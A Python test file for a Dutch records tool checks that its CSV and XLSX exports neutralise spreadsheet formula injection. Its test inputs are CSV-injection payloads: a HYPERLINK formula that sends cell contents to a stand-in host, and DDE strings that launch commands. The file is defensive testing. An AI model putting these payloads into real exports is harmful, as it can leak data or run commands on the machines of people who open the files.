"""Formula-looking text is inert in every CSV and XLSX Capstone writes (issue 16, OWASP CSV
injection): the Woo inventarislijst and the registry's export and publication."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from capstone.registry.csvio import COLUMNS, export_csv, public_entry, publication_csv, read_csv
from capstone.registry.model import Account, Category, DesignationDraft
from capstone.registry.service import Registry
from capstone.services import state_engine
from capstone.settings import Settings
from capstone.tabular import FORMULA_TRIGGERS, csv_cell, csv_text
from capstone.woo.inventory import InventoryRow, write_csv, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+31 6 1234 5678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows() -> list[InventoryRow]:
    return [
        InventoryRow(
            id=i + 1,
            document=subject,
            datum=f"2026-01-0{i + 1}",
            family=i + 1,
            thread_id=None,
            bestandsnaam=f"{subject[:10]}.eml",
            file_type="eml",
            toelichting=subject,
        )
        for i, subject in enumerate(HOSTILE)
    ]


def test_the_inventarislijst_csv_neutralises_formula_cells(tmp_path: Path) -> None:
    path = tmp_path / "inventarislijst.csv"
    write_csv(path, _rows(), "=WOO-1")
    with open(path, encoding="utf-8-sig", newline="") as handle:
        table = list(csv.reader(handle, delimiter=";"))
    cells = [cell for row in table[1:] for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    documents = [row[1] for row in table[1:]]
    assert documents == ["'" + s for s in HOSTILE]  # a quote in front, the text otherwise intact
    assert [row[0] for row in table[1:]] == [str(i + 1) for i in range(len(HOSTILE))]


def test_the_inventarislijst_xlsx_holds_no_formula(tmp_path: Path) -> None:
    path = tmp_path / "inventarislijst.xlsx"
    write_xlsx(path, _rows(), "=WOO-1")
    sheet = load_workbook(path).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    documents = [row[1].value for row in sheet.iter_rows(min_row=2)]
    assert documents == HOSTILE  # text exactly as archived, as a string cell
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == list(range(1, len(HOSTILE) + 1))


@pytest.mark.parametrize("hostile", HOSTILE[:4])
def test_registry_export_and_publication_neutralise_names_and_functions(
    settings: Settings, hostile: str
) -> None:
    registry = Registry(state_engine(settings))
    designation = registry.designate(
        DesignationDraft(
            name=hostile,
            accounts=(Account(primary_smtp="bestuurder@gemeente-demo.nl"),),
            function=hostile,
            organisation_unit="Bestuur",
            category=Category.COLLEGE,
            start_date=date(2025, 1, 1),
            deciding_body="Directieteam",
            decision_date=date(2025, 1, 1),
            decision_reference="DT-2025-001",
        ),
        actor="test",
    )
    exported = export_csv([designation], date(2026, 1, 1))
    published = publication_csv([public_entry(designation)])
    for text in (exported, published):
        table = list(csv.DictReader(io.StringIO(text)))
        assert not [v for row in table for v in row.values() if v.startswith(FORMULA_TRIGGERS)]
        assert (
            table[0]["name"] == "'" + designation.name and table[0]["function"] == "'" + designation.function
        )
    # an export read back (e.g. into another installation) gives the registered text again
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(COLUMNS), extrasaction="ignore")
    writer.writeheader()
    writer.writerows(csv.DictReader(io.StringIO(exported)))
    rows, errors = read_csv(out.getvalue().encode(), today=date(2026, 1, 1))
    assert not errors and rows[0].draft is not None
    assert rows[0].draft.name == designation.name and rows[0].draft.function == designation.function


def test_the_quote_is_only_added_where_needed() -> None:
    assert csv_cell("Begroting 2026") == "Begroting 2026"
    assert csv_cell(None) == "" and csv_cell(42) == "42"
    assert csv_text(csv_cell("=1+1")) == "=1+1" and csv_text("'t Hooft") == "'t Hooft"
